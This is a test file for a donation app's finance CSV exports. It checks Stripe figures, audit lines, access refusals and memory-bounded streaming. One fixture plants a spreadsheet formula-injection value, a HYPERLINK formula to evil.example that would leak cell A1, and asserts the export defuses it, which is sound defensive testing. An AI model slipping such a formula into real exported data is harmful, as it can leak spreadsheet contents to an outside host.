import { runInNewContext } from "node:vm";
import { setFlagsFromString } from "node:v8";
import { sql } from "drizzle-orm";
import type Stripe from "stripe";
import { beforeAll, describe, expect, it } from "vitest";
import { financeExportResponse } from "@/app/finance/export/respond";
import { getDb } from "@/db";
import { auditLog, gifts, staffMembers } from "@/db/schema";
import { startFinanceExport } from "@/lib/finance/exports";
import { nobody } from "@/lib/supporters/actor";
import { signedIn } from "../../support/actors";
import { useTestDatabase } from "../../support/database";
import { applyEventsSince } from "../../support/email-suite";
import { ensureGiftProducts, giveOnce, startRecurringGift } from "../../support/gifts";
import { clearLedger, drainUntilSettled } from "../../support/ledger";
import { control, deliver, lastEventId, sandboxStripe, usePrivateSandbox } from "../../support/stripe";

usePrivateSandbox();
const database = useTestDatabase();

const FINANCE = "finance-staff@example.org";
const request = (kind: string, query: string) => new Request(`http://localhost:3000/finance/export/${kind}?${query}`);
const auditLines = () => getDb().select().from(auditLog).orderBy(auditLog.at);

/** A unix time as the exports write it. */
const iso = (seconds: number) => new Date(seconds * 1000).toISOString().replace(".000Z", "Z");
const day = (seconds: number) => iso(seconds).slice(0, 10);
const CRLF = "\r\n";

/** A one-time gift paid through the stand-in with this attribution, its events applied. */
async function give(email: string, amount: number, currency: string, metadata: Record<string, string> = {}) {
  const { events } = await giveOnce({ email, amount, currency, metadata });
  await deliver(events);
  await drainUntilSettled();
}

// Moves the stand-in's clock on, so that each fact has a time of its own and the export's order is known.
const later = (seconds = 3600) => control("POST", "/_sandbox/clock", { seconds });

beforeAll(async () => {
  await ensureGiftProducts();
  await getDb().insert(staffMembers).values({ email: FINANCE, role: "finance", grantedBy: "admin@example.org" });
});

describe(`finance CSV exports on ${database.kind}`, () => {
  it("exports the period's payments, refunds and disputes, one row each, with Stripe's figures and defused text", async () => {
    await clearLedger();
    const stripe = sandboxStripe();
    const chargeOf = async (amount: number, currency: string) => (await stripe.charges.list({ limit: 100 })).data.find((c) => c.amount === amount && c.currency === currency)!;

    await give("first@example.org", 2500, "eur", { article_url: '=HYPERLINK("https://evil.example/?x="&A1)', section: "Politics", campaign: 'Spring, "the big one"', variant: "@b" });
    await later();
    await give("second@example.org", 1000, "usd");
    await later();
    const monthly = await startRecurringGift({ email: "third@example.org", amount: 1000, currency: "eur", metadata: { section: "Climate" } });
    await applyEventsSince(monthly.marker);
    await later();
    await give("fourth@example.org", 700, "gbp");
    await later();
    // The refund and the dispute, an hour apart.
    const marker = await lastEventId();
    const usd = await chargeOf(1000, "usd");
    const refund = await stripe.refunds.create({ charge: usd.id, amount: 400, reason: "requested_by_customer" });
    await later();
    const gbp = await chargeOf(700, "gbp");
    const dispute = await control<Stripe.Dispute>("POST", `/_sandbox/charges/${gbp.id}/dispute`, { reason: "fraudulent" });
    await control("POST", `/_sandbox/disputes/${dispute.id}/close`, { outcome: "lost" });
    await applyEventsSince(marker);
    // Two days on, a gift outside a period that ends on the last fact's day.
    await later(2 * 86_400);
    await give("outside@example.org", 5000, "eur");

    const eur = await chargeOf(2500, "eur");
    const recurring = await chargeOf(1000, "eur");
    const invoice = (await stripe.invoices.list({ subscription: monthly.subscriptionId })).data[0]!;
    const txn = (charge: Stripe.Charge) => charge.balance_transaction as string;
    const from = day(eur.created);
    const to = day(dispute.created);
    const finance = await signedIn(FINANCE);

    const payments = await financeExportResponse(request("payments", `from=${from}&to=${to}`), finance, "payments");
    expect(payments.status).toBe(200);
    expect(payments.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(payments.headers.get("content-disposition")).toBe(`attachment; filename="readerfund-payments-${from}-to-${to}.csv"`);
    expect(payments.headers.get("cache-control")).toBe("no-store");
    expect(await payments.text()).toBe(
      [
        "paid_at,payment_intent,charge,invoice,balance_transaction,kind,billing_reason,frequency,amount,amount_minor,currency,settlement_currency,settlement_amount_minor,fee_minor,net_minor,exchange_rate,refunded_minor,livemode,article_url,section,campaign,variant",
        // EEA pricing 1.5% + €0.25: 38 + 25. The formula, the comma, the quotes and the @ are all made harmless.
        `${iso(eur.created)},${eur.payment_intent},${eur.id},,${txn(eur)},once,,once,25.00,2500,eur,eur,2500,63,2437,,0,test,"'=HYPERLINK(""https://evil.example/?x=""&A1)",Politics,"Spring, ""the big one""",'@b`,
        // US pricing 2.9% + 30¢: 29 + 30; 4.00 refunded since.
        `${iso(usd.created)},${usd.payment_intent},${usd.id},,${txn(usd)},once,,once,10.00,1000,usd,usd,1000,59,941,,400,test,,,,`,
        // The recurring gift's first invoice: 15 + 25. Paid when its invoice says, which may be the second after its charge.
        `${iso(invoice.status_transitions.paid_at!)},${recurring.payment_intent},${recurring.id},${invoice.id},${txn(recurring)},recurring,subscription_create,monthly,10.00,1000,eur,eur,1000,40,960,,0,test,,Climate,,`,
        // UK pricing 1.5% + 20p: 11 + 20.
        `${iso(gbp.created)},${gbp.payment_intent},${gbp.id},,${txn(gbp)},once,,once,7.00,700,gbp,gbp,700,31,669,,0,test,,,,`,
        "",
      ].join(CRLF),
    );

    const refunds = await financeExportResponse(request("refunds", `from=${from}&to=${to}`), finance, "refunds");
    expect(refunds.headers.get("content-disposition")).toBe(`attachment; filename="readerfund-refunds-${from}-to-${to}.csv"`);
    expect(await refunds.text()).toBe(
      [
        "refunded_at,refund,charge,payment_intent,amount,amount_minor,currency,status,reason,settlement_currency,settlement_amount_minor,fee_minor,net_minor,balance_transaction,livemode",
        // Stripe keeps the fee: the whole amount leaves the balance. The negative numbers stay numbers.
        `${iso(refund.created)},${refund.id},${usd.id},${usd.payment_intent},4.00,400,usd,succeeded,requested_by_customer,usd,-400,0,-400,${refund.balance_transaction},test`,
        "",
      ].join(CRLF),
    );

    const disputes = await financeExportResponse(request("disputes", `from=${from}&to=${to}`), finance, "disputes");
    const closed = await stripe.disputes.retrieve(dispute.id);
    expect(await disputes.text()).toBe(
      [
        "opened_at,dispute,charge,payment_intent,amount,amount_minor,currency,status,reason,evidence_due_by,settlement_currency,settlement_amount_minor,fee_minor,net_minor,livemode",
        // Lost: the amount withdrawn with the £15.00 dispute fee.
        `${iso(dispute.created)},${dispute.id},${gbp.id},${gbp.payment_intent},7.00,700,gbp,lost,fraudulent,${iso(closed.evidence_details.due_by!)},gbp,-700,1500,-2200,test`,
        "",
      ].join(CRLF),
    );

    // The gift two days later is in a period that reaches it, and only there.
    const outside = await chargeOf(5000, "eur");
    const lastDay = await financeExportResponse(request("payments", `from=${day(outside.created)}&to=${day(outside.created)}`), finance, "payments");
    const lines = (await lastDay.text()).split(CRLF);
    expect(lines.slice(1)).toEqual([`${iso(outside.created)},${outside.payment_intent},${outside.id},,${txn(outside)},once,,once,50.00,5000,eur,eur,5000,100,4900,,0,test,,,,`, ""]);

    // No supporter's address or name anywhere.
    const everything = await financeExportResponse(request("payments", `from=${from}&to=${day(outside.created)}`), finance, "payments");
    expect(await everything.text()).not.toMatch(/example\.org|first|second|third|fourth|outside/i);
  });

  it("writes one audit line per export, naming the kind, the period and the page", async () => {
    await getDb().delete(auditLog);
    const finance = await signedIn(FINANCE);
    // A year with no refunds in it (the stand-in's clock runs from today).
    const response = await financeExportResponse(request("refunds", "from=2001-01-01&to=2001-12-31"), finance, "refunds");
    expect(await response.text()).toBe(`refunded_at,refund,charge,payment_intent,amount,amount_minor,currency,status,reason,settlement_currency,settlement_amount_minor,fee_minor,net_minor,balance_transaction,livemode${CRLF}`);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="readerfund-refunds-2001-01-01-to-2001-12-31.csv"');
    expect((await auditLines()).map(({ actorEmail, actorRole, action, target, page, details }) => ({ actorEmail, actorRole, action, target, page, details }))).toEqual([
      { actorEmail: FINANCE, actorRole: "finance", action: "finance.export", target: "refunds", page: "/finance/export/refunds", details: { from: "2001-01-01", to: "2001-12-31" } },
    ]);

    // An admin from ADMIN_EMAILS (the local default in tests) may export too.
    const admin = await signedIn("admin@example.org");
    expect((await financeExportResponse(request("disputes", "from=2001-01-01&to=2001-01-01"), admin, "disputes")).status).toBe(200);
    expect((await auditLines()).map((line) => [line.actorEmail, line.actorRole, line.target])).toEqual([
      [FINANCE, "finance", "refunds"],
      ["admin@example.org", "admin", "disputes"],
    ]);
  });

  it("refuses a supporter, a manage link and nobody with 403, and writes nothing", async () => {
    await getDb().delete(auditLog);
    const supporter = await signedIn("just-a-supporter@example.org");
    for (const actor of [supporter, nobody, { kind: "manage_link" as const, recurringGiftId: crypto.randomUUID() }]) {
      const response = await financeExportResponse(request("payments", "from=2026-01-01&to=2026-12-31"), actor, "payments");
      expect(response.status).toBe(403);
      expect(await response.json()).toEqual({ error: { code: "FORBIDDEN", message: "This is for the newsroom's finance staff." } });
      // A bad period or kind is no business of theirs either: the same 403.
      expect((await financeExportResponse(request("nonsense", "from=x"), actor, "nonsense")).status).toBe(403);
    }
    expect(await auditLines()).toEqual([]);
  });

  it("refuses a bad period or an unknown kind with 422 naming the problem, and writes nothing", async () => {
    await getDb().delete(auditLog);
    const finance = await signedIn(FINANCE);
    const cases: Array<[string, string, string, Record<string, string>]> = [
      ["payments", "", "Give the period's first day (from) as YYYY-MM-DD, like ?from=2026-01-01&to=2026-12-31.", { from: "Give the period's first day (from) as YYYY-MM-DD, like ?from=2026-01-01&to=2026-12-31.", to: "Give the period's last day (to) as YYYY-MM-DD, like ?from=2026-01-01&to=2026-12-31." }],
      ["payments", "from=2026-01-01&to=31/12/2026", "Give the period's last day (to) as YYYY-MM-DD, like ?from=2026-01-01&to=2026-12-31.", { to: "Give the period's last day (to) as YYYY-MM-DD, like ?from=2026-01-01&to=2026-12-31." }],
      ["payments", "from=2026-02-30&to=2026-03-31", "The period's first day (from), 2026-02-30, is not a day the calendar has.", { from: "The period's first day (from), 2026-02-30, is not a day the calendar has." }],
      ["refunds", "from=2026-03-01&to=2026-02-28", "The period ends before it starts: its last day (to) must be on or after its first (from).", { to: "The period ends before it starts: its last day (to) must be on or after its first (from)." }],
      ["disputes", "from=2024-02-29&to=2027-03-01", "The period is longer than 3 years: export it in parts.", { to: "The period is longer than 3 years: export it in parts." }],
      ["gifts", "from=2026-01-01&to=2026-12-31", 'There is no export of "gifts": choose payments, refunds, disputes, payouts.', { kind: 'There is no export of "gifts": choose payments, refunds, disputes, payouts.' }],
    ];
    for (const [kind, query, message, fieldErrors] of cases) {
      const response = await financeExportResponse(request(kind, query), finance, kind);
      expect(response.status, `${kind}?${query}`).toBe(422);
      expect(await response.json()).toEqual({ error: { code: "INVALID_INPUT", message, fieldErrors } });
    }
    // Three years to the day before the 1 March after a leap day's third anniversary is the longest.
    expect((await financeExportResponse(request("disputes", "from=2024-02-29&to=2027-02-28"), finance, "disputes")).status).toBe(200);
    expect((await auditLines()).map((line) => line.details)).toEqual([{ from: "2024-02-29", to: "2027-02-28" }]);
  });
});

describe(`a large finance export on ${database.kind}`, () => {
  // 200 000 took a minute on PGlite on a shared two-core machine (most of it the insert); 50 000
  // already make a file several times the heap growth allowed, and well past one batch.
  const ROWS = 50_000;

  it("streams a day's edges exactly and ties in time across batches, each row once", async () => {
    await clearLedger();
    const db = getDb();
    const [gift] = await db
      .insert(gifts)
      .values({ stripeCheckoutSessionId: "cs_edges", frequency: "once", amountMinor: 100, currency: "eur", livemode: "test", givenAt: new Date("2030-01-31T12:00:00Z") })
      .returning({ id: gifts.id });
    // Three payments share each instant, so batches of two split every tie; the last is a
    // microsecond before midnight, the next one at midnight belongs to the next day.
    await db.execute(sql`insert into payments (gift_id, stripe_payment_intent_id, stripe_charge_id, amount_minor, currency, livemode, paid_at)
      select ${gift!.id}::uuid, 'pi_edge_' || n, 'ch_edge_' || n, 100 * n, 'eur', 'test',
        case when n = 10 then timestamptz '2030-01-31T23:59:59.999999Z' when n = 11 then timestamptz '2030-02-01T00:00:00Z'
          when n = 12 then timestamptz '2030-01-30T23:59:59.999999Z' else timestamptz '2030-01-31T00:00:00Z' + ((n - 1) / 3) * interval '1 hour' end
      from generate_series(1, 12) n`);
    const finance = await signedIn(FINANCE);
    const exported = await startFinanceExport(finance, { kind: "payments", from: "2030-01-31", to: "2030-01-31" }, { page: "/finance/export/payments" }, db, { batchSize: 2 });
    let text = "";
    for await (const chunk of exported.chunks) text += chunk;
    const rows = text.split(CRLF).slice(1, -1).map((line) => line.split(","));
    // Within a tie the order is by our own id; across them by time.
    expect(rows.map((row) => row[2]).sort()).toEqual(["ch_edge_1", "ch_edge_10", "ch_edge_2", "ch_edge_3", "ch_edge_4", "ch_edge_5", "ch_edge_6", "ch_edge_7", "ch_edge_8", "ch_edge_9"]);
    expect(rows.map((row) => row[0])).toEqual([
      ...Array(3).fill("2030-01-31T00:00:00Z"),
      ...Array(3).fill("2030-01-31T01:00:00Z"),
      ...Array(3).fill("2030-01-31T02:00:00Z"),
      "2030-01-31T23:59:59Z",
    ]);
    expect(rows.find((row) => row[2] === "ch_edge_7")!.slice(8, 11)).toEqual(["7.00", "700", "eur"]);
  });

  it(`streams ${ROWS.toLocaleString("en")} payments with the heap bounded by a batch, not by the file`, { timeout: 120_000 }, async () => {
    await clearLedger();
    const db = getDb();
    const [gift] = await db
      .insert(gifts)
      .values({
        stripeCheckoutSessionId: "cs_synthetic",
        frequency: "once",
        amountMinor: 2500,
        currency: "eur",
        livemode: "test",
        articleUrl: "https://news.example.org/2031/01/01/a-long-article-about-the-budget",
        campaign: "synthetic",
        givenAt: new Date("2031-01-01T00:00:00Z"),
      })
      .returning({ id: gifts.id });
    const insertStarted = performance.now();
    // Triggers (the rollups, the foreign keys) are off for this one bulk insert of made-up rows.
    await db.transaction(async (tx) => {
      await tx.execute(sql`set local session_replication_role = replica`);
      await tx.execute(sql`insert into payments (gift_id, stripe_payment_intent_id, stripe_charge_id, stripe_balance_transaction_id, amount_minor, currency,
          settlement_amount_minor, fee_minor, net_minor, settlement_currency, livemode, paid_at)
        select ${gift!.id}::uuid, 'pi_synthetic_' || n, 'ch_synthetic_' || n, 'txn_synthetic_' || n, 2500, 'eur', 2500, 63, 2437, 'eur', 'test',
          timestamptz '2031-01-01T00:00:00Z' + (n / 3) * interval '1 second'
        from generate_series(1, ${ROWS}::int) n`);
    });
    const insertSeconds = (performance.now() - insertStarted) / 1000;

    const seen = new Uint8Array(ROWS + 1);
    const gc = collector();
    gc();
    const baseline = process.memoryUsage().heapUsed;
    let peakGrowth = 0;
    let bytes = 0;
    let rows = 0;
    let lastTime = "";
    let outOfOrder = 0;
    let carry = "";
    const streamStarted = performance.now();
    const finance = await signedIn(FINANCE);
    const response = await financeExportResponse(request("payments", "from=2031-01-01&to=2031-12-31"), finance, "payments");
    expect(response.status).toBe(200);
    const reader = response.body!.getReader();
    const decoder = new TextDecoder();
    let chunks = 0;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      bytes += value.byteLength;
      const lines = (carry + decoder.decode(value, { stream: true })).split(CRLF);
      carry = lines.pop()!;
      for (const line of lines) {
        if (line.startsWith("paid_at,")) continue;
        const cells = line.split(",");
        seen[Number(cells[2]!.slice("ch_synthetic_".length))]! += 1;
        if (cells[0]! < lastTime) outOfOrder++;
        lastTime = cells[0]!;
        rows++;
      }
      if (++chunks % 20 === 0) {
        gc();
        peakGrowth = Math.max(peakGrowth, process.memoryUsage().heapUsed - baseline);
      }
    }
    const streamSeconds = (performance.now() - streamStarted) / 1000;
    expect(carry).toBe("");
    expect(rows).toBe(ROWS);
    expect(outOfOrder).toBe(0);
    expect(seen.subarray(1).every((v) => v === 1)).toBe(true);
    console.info(
      `${database.kind}: inserted ${ROWS} payments in ${insertSeconds.toFixed(1)} s, streamed ${(bytes / 1e6).toFixed(1)} MB in ${streamSeconds.toFixed(1)} s; heap grew at most ${(peakGrowth / 1e6).toFixed(1)} MB`,
    );
    // The file is over ten megabytes (as rows in memory, several times that); the heap holds a batch.
    expect(bytes).toBeGreaterThan(10_000_000);
    expect(peakGrowth).toBeLessThan(8_000_000);
  });
});

/** V8's collector, so the heap is measured as what is kept rather than what is not yet swept. */
function collector(): () => void {
  setFlagsFromString("--expose-gc");

  return runInNewContext("gc") as () => void;
}
